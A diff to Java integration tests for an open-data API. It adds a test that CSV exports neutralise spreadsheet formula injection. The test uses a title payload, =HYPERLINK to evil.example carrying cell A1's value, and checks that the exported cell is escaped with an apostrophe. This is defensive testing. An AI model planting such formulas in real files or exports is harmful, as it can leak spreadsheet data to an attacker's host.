@@ -234,6 +234,23 @@ class OpenDataIntegrationTests {
 	// ---------------------------------------------------------------- only public records
 
 	@Test
+	void aTitleASpreadsheetWouldRunAsAFormulaIsWrittenAsText() {
+		// its own marker: the test of private records looks for this class's in every file
+		var marker = "Formula" + Long.toString(System.nanoTime() % 1_000_000_000L, 36);
+		var title = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\") " + marker;
+		var tabled = api.post("/api/documents", officer, """
+				{"type": "STATEMENT", "title": "%s", "body": "CMFA", "access": "PUBLIC", "languages": ["en"],
+				 "originalLanguage": "en", "paragraphs": [{"label": "1", "status": "AGREED", "text": {"en": "We agree."}}]}""".formatted(title));
+		assertThat(tabled.status()).as(tabled.toString()).isEqualTo(201);
+		var recorded = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") " + marker;
+		var csv = api.file("/data/documents.csv", null).body();
+		assertThat(csv).as("the CSV cell starts with an apostrophe").contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1")
+				.doesNotContain(",\"=HYPERLINK(");
+		assertThat(table("documents.json")).extracting(row -> row.get("title")).contains(recorded);
+		assertThat(table("documents.csv")).extracting(row -> row.get("title")).contains(recorded);
+	}
+
+	@Test
 	void aRecordThePublicMayNotSeeIsInNoFileWhoeverAsks() {
 		// it exists: the Secretariat sees it on its own paths
 		assertThat(api.get("/api/meetings/" + privateMeeting, officer).status()).isEqualTo(200);
@@ -256,6 +273,9 @@ class OpenDataIntegrationTests {
 
 	@Test
 	void aFileRevalidatesWith304UntilItsDataChanges() throws Exception {
+		// no date while the last change's second is not over (DataVersions.Stamp#httpLastModified): the tag alone validates
+		org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30))
+				.until(() -> raw("/data/meetings.csv", Map.of()).headers().firstValue("Last-Modified").isPresent());
 		var first = raw("/data/meetings.csv", Map.of());
 		assertThat(first.statusCode()).isEqualTo(200);
 		var etag = first.headers().firstValue("ETag").orElseThrow();
@@ -316,7 +336,9 @@ class OpenDataIntegrationTests {
 				assertThat(line).as("%s: a row has every field", path).hasSize(fields.size());
 				var row = new LinkedHashMap<String, @Nullable String>();
 				for (int i = 0; i < fields.size(); i++) {
-					row.put(fields.get(i), line[i].isEmpty() ? null : line[i]);
+					// a text that would run as a formula comes after an apostrophe (OpenData.formulaLike)
+					var cell = line[i].length() > 1 && line[i].charAt(0) == '\'' && OpenData.formulaLike(line[i].substring(1)) ? line[i].substring(1) : line[i];
+					row.put(fields.get(i), cell.isEmpty() ? null : cell);
 				}
 				rows.add(row);
 			}
